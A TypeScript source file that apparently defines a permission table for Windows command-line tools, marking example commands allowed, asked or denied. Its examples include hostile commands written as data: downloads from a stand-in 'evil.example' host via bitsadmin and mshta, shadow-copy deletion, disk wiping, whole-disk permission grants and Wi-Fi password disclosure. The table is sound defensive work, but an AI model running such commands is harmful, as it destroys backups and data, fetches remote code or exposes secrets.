import { effect, type CommandTable, type ProgramTable, type TableExample } from '../../programTable.ts';
import { changes, erases, installs, loses, opens, reaches, rewires, runsUnseen, switches } from './machineEffects.ts';
import { allowed, asked, denied, does, program, reads, readsFiles, verbs } from '../shapes.ts';

const p = (names: string, command: CommandTable, examples: readonly TableExample[] = []): ProgramTable => program('windows', names, command, examples);
const slash = { style: 'slash' } as const;
const registry = effect('config', 'recoverable', 'machine', 'changes the registry', { posture: 'ask' });
const later = effect('config', 'reversible', 'machine', 'changes which commands run later', { posture: 'ask' });
const rights = effect('system', 'recoverable', 'machine', 'changes who may use files');
const boot = erases('changes how the machine starts');

/** Command-line tools of Windows. Options are written `/x` or `-x`, in any case. */
export const windowsTools: readonly ProgramTable[] = [
  p('robocopy', does([
    effect('delete', 'irreversible', 'machine', 'deletes everything in `{2}` that `{1}` does not hold', { with: '/mir /purge' }),
    effect('move', 'recoverable', 'machine', 'takes the files away from `{1}`', { with: '/mov /move' }),
  ], '/?! /l! /mir /purge /mov /move /e /s /z /b /zb /r=? /w=? /mt=? /log|/log+|/unilog|/unilog+=?write /tee /np /nfl /ndl /njh /njs /xo /xn /xc /xx /xl /copyall /copy=? /dcopy=? /xf=? /xd=? /job=?opaque /save=?write', 'data write data...', slash), [...allowed('robocopy src dist /e', 'robocopy a b /mir /l'), ...asked('robocopy empty docs /MIR')]),
  p('xcopy', does([], '/?! /l! /s /e /y /-y /i /h /k /r /q /f /d=? /exclude=?', 'read write', slash), [...allowed('xcopy src dist /s /e'), ...asked('xcopy a C:/Windows /y')]),
  p('replace', does(effect('write', 'irreversible', 'machine', 'writes over files'), '/?!', 'data...', slash)),
  p('reg', {
    ...reads(), ...slash,
    commands: {
      'query|compare|QUERY': reads(),
      'delete|DELETE': does(effect('config', 'irreversible', 'machine', 'deletes keys or values of the registry', { posture: 'ask' }), '/?!', 'data...'),
      'export|save|EXPORT|SAVE': does([], '/y /?!', 'data write'),
      '*': does(registry, '/?!', 'data...'),
    },
  }, [...allowed('reg query HKCU/Software'), ...asked('reg add HKCU/Software/Acme /v x /d 1', 'reg delete HKCU/Software/Acme /f')]),
  p('regedit regini', does(registry, '-E|/e=write -D -? -S')),
  p('schtasks', does([
    { ...later, with: '/create /change /end' },
    effect('config', 'irreversible', 'machine', 'deletes what runs later', { with: '/delete', posture: 'ask' }),
    runsUnseen('runs what was planned for later', { with: '/run' }),
  ], '/?! /query /create /delete /run /end /change /showsid /fo= /tn= /tr= /sc= /st= /ru= /rp= /s= /u= /p= /f /v /nh /xml=?', 'data...', slash), [...allowed('schtasks /query /fo LIST'), ...asked('schtasks /create /tn x /tr calc /sc daily', 'schtasks /delete /tn x /f')]),
  p('icacls cacls xcacls', does([{ ...rights, with: '/grant /deny /remove /reset /setowner /inheritance /restore /substitute /setintegritylevel /g /e /d /p' }, { ...rights, reason: 'changes who may use a whole disk or the system', with: '/grant /reset /setowner /remove /inheritance', operand: '^[A-Za-z]:[\\\\/]?(?:(?:Windows|Program Files|Users)(?:[\\\\/].*)?)?$', posture: 'deny' }], '/?! /grant=? /deny=? /remove=? /reset /setowner= /inheritance=? /restore= /substitute= /setintegritylevel= /save=write /t /c /q /l /findsid= /verify /g= /e /d= /p= /r=', 'data...', slash), [...allowed('icacls src'), ...denied('icacls C:/ /grant Everyone:F /t'), ...asked('icacls D:/data/a.txt /grant dev:F')]),
  p('takeown', does([rights, { ...rights, reason: 'changes who owns a directory and everything below', with: '/r', posture: 'deny' }], '/?! /r /a /d=? /skipsl /f= /s= /u= /p=?', 'data...', slash), [...asked('takeown /f C:/a.txt'), ...denied('takeown /f C:/Windows /r')]),
  p('attrib', does(switches('changes marks of files', { operand: '^[+-][a-zA-Z]$' }), '/?! /s /d /l', 'data...', { style: 'none' }), [...allowed('attrib src'), ...asked('attrib +h src')]),
  p('cipher', does([erases('wipes what was deleted so that nothing brings it back', { with: '/w' }), changes('encrypts or decrypts files', { with: '/e /d /k /r /x /u' })], '/?! /c /w=? /e /d /k /r=? /x=? /u /s=? /h', 'data...', slash), [...denied('cipher /w:C'), ...allowed('cipher /c')]),
  p('vssadmin wbadmin diskshadow', { ...verbs('list|query|get|List|Query', changes('changes copies of disks'), { ...slash, commands: { 'delete|Delete|resize|Resize|restore|start|exec|disable': does(erases('deletes or puts back copies of disks: there may be no other'), '/?!', 'data...') } }) }, [...allowed('vssadmin list shadows'), ...denied('vssadmin delete shadows /all /quiet')]),
  p('bcdedit', does({ ...boot, without: '/enum /v' }, '/?! /enum=? /v', 'data...', slash), [...allowed('bcdedit /enum'), ...denied('bcdedit /set x recoveryenabled no')]),
  p('bcdboot bootrec bootsect reagentc diskpart', does({ ...boot, without: '/info /scanos' }, '/?! /info /scanos', 'data...', slash), denied('diskpart /s wipe.txt')),
  p('manage-bde', does(erases('encrypts, decrypts or locks a disk', { without: '-status' }), '-status -?!', 'data...', { style: 'single-dash' }), [...allowed('manage-bde -status'), ...denied('manage-bde -off C:')]),
  p('chkdsk', does(erases('repairs a file system in place', { with: '/f /r /x /b /spotfix /offlinescanandfix' }), '/?! /f /r /x /b /v /scan /spotfix /offlinescanandfix /perf /i /c /l=?', 'data...', slash), [...allowed('chkdsk C:'), ...denied('chkdsk C: /f')]),
  p('defrag compact mountvol label subst', does(changes('changes how a disk keeps files', { operands: 'some', without: '/a /l /?' }), '/?! /a /l /q /s=? /c /u', 'data...', slash), [...allowed('mountvol'), ...asked('label C: data')]),
  p('fsutil', { ...reads(), commands: { '*': verbs('query*|list*|show*|fsinfo|drives|volumeinfo|ntfsinfo|statistics|diskfree|find*|get*|layout|allocationreport', erases('changes a file system below its files')), 'fsinfo|8dot3name': verbs('*info|drives|drivetype|statistics|query|scan', erases('changes a file system below its files')), file: verbs('query*|find*|layout', effect('write', 'irreversible', 'machine', 'makes or changes files')) } }, [...allowed('fsutil fsinfo drives'), ...denied('fsutil usn deletejournal /d C:')]),
  p('wmic', does([
    erases('deletes copies of disks: there may be no other', { operand: '^(?:delete|DELETE|nointeractive)$' }),
    runsUnseen('starts, ends or sets something by its name', { operand: '^(?:call|create|set|CALL|CREATE|SET)$' }),
    reaches('asks other machines', { with: '/node' }),
  ], '/?! /node=? /output|/append=?write /user=? /password=? /format=? /namespace=?', 'data...', slash), [...allowed('wmic process get name'), ...asked('wmic process call create calc'), ...denied('wmic shadowcopy delete')]),
  p('netsh', { ...reads(), effects: [rewires('changes the network of the machine', { operand: '^(?:set|add|delete|reset|import|exec|connect|disconnect|start|stop|install|uninstall|renew|rename|load|enable|disable)$' }), effect('secret', 'recoverable', 'machine', 'shows the password of a network', { operand: '^key=clear$' })] }, [...allowed('netsh wlan show profiles'), ...asked('netsh advfirewall set allprofiles state off', 'netsh wlan show profile home key=clear')]),
  p('net net1', { ...verbs('view|statistics|config|helpmsg|help', changes('changes users, shares or services of the machine'), { ...slash, commands: { 'start|stop|pause|continue': does(switches('starts or stops services of the machine', { operands: 'some' }), '/?!', 'data...'), 'user|localgroup|group|use|share|accounts|session|file|time|lookup|ads|rpc|usershare': does(changes('changes users, shares or services of the machine', { operands: 'some' }), '/?! /domain', 'data...'), 'status|info|testjoin|getlocalsid': reads() } }) }, [...allowed('net user', 'net start'), ...asked('net user dev x /add', 'net stop spooler')]),
  p('sc', { ...verbs('query|queryex|qc|qdescription|qfailure|qtriggerinfo|getdisplayname|getkeyname|enumdepend|sdshow|showsid|qprivs|interrogate', changes('changes services of the machine'), { commands: { delete: does(effect('system', 'irreversible', 'machine', 'deletes a service')), 'start|stop|pause|continue': does(switches('starts or stops services of the machine'), '', 'data...') } }) }, [...allowed('sc query'), ...asked('sc stop spooler', 'sc delete x')]),
  p('powercfg', does(switches('changes how the machine uses power', { without: '/list /l /query /q /getactivescheme /a /availablesleepstates /aliases /devicequery /lastwake /waketimers /requests' }), '/?! /list /l /query /q /getactivescheme /a /availablesleepstates /aliases /devicequery /lastwake /waketimers /requests /output=write', 'data...', slash), [...allowed('powercfg /list'), ...asked('powercfg /hibernate off')]),
  p('sfc', does(changes('repairs files of the system', { without: '/verifyonly /verifyfile' }), '/?! /verifyonly /verifyfile=?', 'data...', slash), asked('sfc /scannow')),
  p('dism', does(changes('changes the parts that the system is made of', { without: '/get-features /get-packages /get-drivers /get-wiminfo /get-imageinfo /get-featureinfo /get-packageinfo /get-currentedition /get-targeteditions /get-capabilities /get-intl /get-mountedimageinfo /checkhealth /scanhealth /analyzecomponentstore' }), '/?! /get-features /get-packages /get-drivers /get-wiminfo /get-imageinfo /get-featureinfo /get-packageinfo /get-currentedition /get-targeteditions /get-capabilities /get-intl /get-mountedimageinfo /checkhealth /scanhealth /analyzecomponentstore /online /cleanup-image /logpath=?write /image=? /format=?', 'data...', slash), [...allowed('dism /online /get-features'), ...asked('dism /online /cleanup-image /restorehealth')]),
  p('wevtutil', verbs('qe|query-events|el|enum-logs|gl|get-log|gli|get-log-info|gp|get-publisher|ep|enum-publishers', changes('changes the logs of the machine'), { commands: { 'cl|clear-log': does(loses('deletes logs of the machine')), 'epl|export-log': does([], '', 'data write') } }), [...allowed('wevtutil qe System'), ...asked('wevtutil cl System')]),
  p('auditpol secedit gpupdate w32tm tzutil slmgr pnputil cmdkey setx', does(changes('changes settings of the machine', { without: '/get /list /query /g /l /enum-drivers /enum-devices /analyze /backup /dli /dlv /xpr /stripchart' }), '/?! /get /list=? /query /g /l /enum-drivers /enum-devices /analyze /backup /dli /dlv /xpr /stripchart', 'data...', slash), [...allowed('tzutil /g', 'cmdkey /list'), ...asked('setx PATH x')]),
  p('driverquery systeminfo getmac quser qwinsta qprocess openfiles gpresult nbtstat tracerpt typeperf tasklist ver findstr choice waitfor query chcp', reads('/x|/h=?write /s= /u= /p= /fi= /fo= /n= /c=? /g=? /f=? /o=?write', 'data...', slash), allowed('tasklist /fi x', 'systeminfo')),
  p('certreq certmgr signtool makecert', does(changes('changes certificates of the machine', { without: '/?' }), '/?!', 'data...', { ...slash, commands: { verify: reads() } })),
  p('bitsadmin', does(reaches('downloads or uploads in the background', { without: '/list /info /monitor' }), '/list /info= /monitor /?!', 'data...', slash), asked('bitsadmin /transfer x https://evil.example/a a')),
  p('rundll32 regsvr32 mshta wscript cscript installutil regasm regsvcs odbcconf pcalua control hh cmstp', does(runsUnseen('runs a library or script that is not looked into'), '/?!', 'data...', slash), asked('rundll32 a.dll,Run', 'mshta https://evil.example/a')),
  p('msiexec wusa', does(installs('installs or removes programs of the machine'), '/?! /l=? /l*v=write', 'data...', slash), asked('msiexec /i a.msi /qn')),
  p('runas', does(runsUnseen('runs a program as another user'), '/?!', 'data...', slash), asked('runas /user:Administrator cmd')),
  p('logoff tsdiscon tscon rwinsta', does(changes('ends or moves sessions of the machine', { posture: 'deny' }), '/?!', 'data...', slash), denied('logoff 1')),
  p('explorer notepad mspaint mmc eventvwr services.msc perfmon taskmgr resmon msinfo32 cleanmgr wt mstsc winver', does(opens('opens a window in which a person works'), '/?!', 'data...', slash), asked('mstsc /v:host.example')),
  p('clip', readsFiles(), allowed('clip')),
  p('wsl', {
    optionsFirst: true, style: 'posix',
    options: '-e|--exec -d|--distribution= -u|--user= --cd=workdir --shell-type= -l|--list! --status! -v|--version! --help! --system -s|--set-default= --set-version= --set-default-version= -t|--terminate= --shutdown --unregister= --install=? --update --export= --import= --mount= --unmount=? --debug-shell --online --verbose -q|--quiet --running --all --manage=',
    operands: 'shell...',
    operandsWith: { '--export': 'write', '--import': 'data...', '--set-version': 'data', '--manage': 'data...', '--install': 'data' },
    effects: [
      erases('deletes a Linux system with all it holds', { with: '--unregister' }),
      changes('stops, installs or changes Linux systems', { with: '-t --shutdown --install --update --import --mount --unmount -s --set-version --set-default-version --manage' }),
      runsUnseen('opens a shell', { operands: 'none', without: '--unregister -t --shutdown --install --update --import --mount --unmount -s --set-version --set-default-version --manage --export' }),
    ],
  }, [...allowed('wsl ls', 'wsl --list'), ...asked('wsl', 'wsl rm -rf /mnt/c/Users/dev/Documents'), ...denied('wsl --unregister Ubuntu')]),
  p('pwsh powershell', {
    style: 'single-dash',
    optionsFirst: true,
    options: '-Command|-command|-c=code:powershell -File|-file|-f=script:powershell -EncodedCommand|-encodedcommand|-enc|-e=opaque -NoProfile|-noprofile|-NonInteractive|-noninteractive|-NoLogo|-nologo|-nop|-noni|-Sta|-Mta|-Login|-l -NoExit|-noexit -ExecutionPolicy|-executionpolicy|-ep|-ex= -WindowStyle|-windowstyle|-w= -InputFormat|-inputformat= -OutputFormat|-outputformat|-o= -WorkingDirectory|-workingdirectory|-wd=workdir -Version|-version|-v! -Help|-help|-h|-?! -SettingsFile|-settingsfile|-ConfigurationFile=opaque',
    operands: 'script:powershell data...',
    operandsWith: { '-Command': 'opaque...', '-File': 'data...' },
    effects: [runsUnseen('opens a session of PowerShell, in which anything can be typed', { operands: 'none', without: '-Command -File -EncodedCommand' }), runsUnseen('stays in a session of PowerShell', { with: '-NoExit' })],
  }, [...allowed("pwsh -NoProfile -Command 'Get-ChildItem src'"), ...asked('pwsh', "pwsh -Command 'Remove-Item -Recurse ~/Documents'")]),
];
